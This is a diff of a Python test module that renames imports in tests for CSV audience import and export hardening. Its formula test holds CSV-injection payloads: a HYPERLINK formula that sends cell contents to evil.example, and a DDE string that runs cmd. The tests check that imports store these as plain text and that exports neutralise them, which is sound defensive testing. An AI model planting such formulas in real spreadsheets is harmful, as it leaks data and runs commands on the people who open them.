@@ -1,7 +1,7 @@
 """Issue 6 item 9: a corpus of bad audience CSVs, through the services the wizard and the import really use.
 
 Each file goes the way an uploaded file goes: `uploads.store_upload` (the server-side copy and its 20 MB
-check), then `csv_reader.check_csv` (what the campaign wizard shows), then `contacts.preview_import` (the
+check), then `csv_reader.check_csv` (what the campaign wizard shows), then `contact_import.preview_import` (the
 contact import's summary, which must write nothing). Each is either parsed right (the counts and line
 numbers asserted exactly) or refused with a specific message, the same one on both paths. Exports must
 neutralise formulas: the campaign results CSV (GET /exports/campaigns/{id}.csv, the real route over HTTP)
@@ -33,14 +33,13 @@ from app.models import CampaignRecipient, Contact, ContactIdentity
 from app.services.accounts import auth
 from app.services.audiences import uploads
 from app.services.campaigns import drafts as campaign_service
-from app.services.audiences import contacts as contacts_service
-from app.services.sending.lifecycle import freeze_audience
+from app.services.audiences import contact_import
+from app.services.sending.freeze import freeze_audience
 from app.services.audiences.contacts import ContactError
 from app.services.audiences.csv_reader import MAX_CSV_BYTES, CsvRefused, check_csv, iter_valid_rows
 from app.timeutil import utcnow
-from tests.hardening.report import record
-from tests.integration.test_imports import _fingerprint
-from tests.integration.test_sending_support import MAPPING, make_channel, make_template
+from tests.support.factories import MAPPING, audience_fingerprint, make_channel, make_template
+from tests.support.hardening import record
 
 NO_CC = "Country code missing (start with + and the country code)"
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -198,12 +197,12 @@ def test_bad_csv_is_parsed_right_or_refused_clearly(case: Case, session, importe
         else:
             path = _store(data).path
             assert path.read_bytes() == data
-        before = _fingerprint(session)
+        before = audience_fingerprint(session)
         if isinstance(case.expect, Refused):
             with pytest.raises(CsvRefused) as wizard:
                 check_csv(path)
             with pytest.raises(ContactError) as imported:
-                contacts_service.preview_import(session=session, actor=importer, path=path)
+                contact_import.preview_import(session=session, actor=importer, path=path)
             assert str(wizard.value) == case.expect.message
             assert str(imported.value) == case.expect.message.rstrip(".") + "."
             out["detail"] = f"refused: {case.upload_refused or case.expect.message}"
@@ -218,7 +217,7 @@ def test_bad_csv_is_parsed_right_or_refused_clearly(case: Case, session, importe
             assert len(check.invalid_rows) == min(want.invalid, 10_000)
             if want.valid_lines is not None:
                 assert [line for line, _, _ in iter_valid_rows(path, check)] == list(want.valid_lines)
-            preview = contacts_service.preview_import(session=session, actor=importer, path=path)
+            preview = contact_import.preview_import(session=session, actor=importer, path=path)
             # The import also checks the other columns' values: a valid number with a bad value moves to invalid.
             bad_values = preview.invalid - want.invalid
             assert (preview.rows, preview.new + bad_values, preview.duplicates) == (want.rows, want.valid,
@@ -227,7 +226,7 @@ def test_bad_csv_is_parsed_right_or_refused_clearly(case: Case, session, importe
             shown = "; ".join(f"line {r.line}: {r.reason}" for r in check.invalid_rows[:3])
             out["detail"] = (f"parsed: {check.rows:,} rows, {check.valid:,} valid, {check.invalid:,} invalid, "
                              f"{check.duplicates:,} duplicates" + (f" ({shown})" if shown else ""))
-        assert _fingerprint(session) == before  # checking a file writes nothing
+        assert audience_fingerprint(session) == before  # checking a file writes nothing
 
 
 def test_a_1_mb_value_is_kept_out_of_the_contact_with_its_line(session, importer, tmp_path):
@@ -235,9 +234,9 @@ def test_a_1_mb_value_is_kept_out_of_the_contact_with_its_line(session, importer
     with recorded("1 MB value imported into a contact field") as out:
         path = _store(b"phone,first_name,note\n+61412345678,Ann," + b"a" * (1024 * 1024)
                       + b"\n+442079460958,Tom,short\n").path
-        result = contacts_service.commit_import(session=session, actor=importer, path=path, new_list_name="Long")
+        result = contact_import.commit_import(session=session, actor=importer, path=path, new_list_name="Long")
         assert (result.created, result.invalid) == (1, 1)
-        preview = contacts_service.preview_import(session=session, actor=importer, path=path)
+        preview = contact_import.preview_import(session=session, actor=importer, path=path)
         [bad] = preview.invalid_rows
         assert bad.line == 2 and "longer than" in bad.reason
         assert [i.address for i in session.exec(select(ContactIdentity)).all()] == ["+442079460958"]
@@ -247,7 +246,7 @@ def test_a_1_mb_value_is_kept_out_of_the_contact_with_its_line(session, importer
 def test_formulas_are_stored_as_data_by_the_import(session, importer):
     with recorded("formulas imported as plain text") as out:
         path = _store(FORMULA_FILE).path
-        result = contacts_service.commit_import(session=session, actor=importer, path=path, new_list_name="F")
+        result = contact_import.commit_import(session=session, actor=importer, path=path, new_list_name="F")
         assert (result.created, result.invalid) == (3, 1)
         names = {c.first_name for c in session.exec(select(Contact)).all()}
         assert names == {'=HYPERLINK("http://evil.example/?"&A1,"Click me")', "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -316,8 +315,8 @@ def _downloaded_text(outcome) -> str:
 
 def test_wizard_invalid_rows_download_neutralises_formulas(world, redis_client, reflex_backend, tmp_path):
     """The wizard's "download invalid rows", sent as a real event: the invalid values are the file's own."""
-    from state.wizard import WizardState
-    from tests.integration.test_handler_permissions import cookie_for, event_name
+    from state.wizard_setup import WizardSetupState
+    from tests.support.reflex_client import cookie_for, event_name
 
     with recorded("wizard 'download invalid rows' export") as out:
         path = tmp_path / "formulas.csv"
@@ -329,11 +328,11 @@ def test_wizard_invalid_rows_download_neutralises_formulas(world, redis_client, 
         async def scenario(new_client):
             client = new_client()
             await client.connect(cookie)
-            wizard = await client.substate(WizardState)
+            wizard = await client.substate(WizardSetupState)
             # What handle_upload keeps after checking the file (a backend-only var).
             wizard._invalid_all = [{"line": str(r.line), "value": r.value, "reason": r.reason}
                                    for r in check.invalid_rows]
-            outcome = await client.send(event_name(WizardState, "download_invalid"), {}, path="/campaigns/new")
+            outcome = await client.send(event_name(WizardSetupState, "download_invalid"), {}, path="/campaigns/new")
             await client.close()
             return outcome
 
@@ -345,6 +344,3 @@ def test_wizard_invalid_rows_download_neutralises_formulas(world, redis_client, 
         assert _formula_cells(rows) == []
         out["detail"] = f"{len(rows) - 1} invalid rows exported, every formula prefixed with '"
 
-
-# The Reflex event machinery (and its `world`) of the handler-permission test, reused as is.
-from tests.integration.test_handler_permissions import reflex_backend, world  # noqa: E402,F401
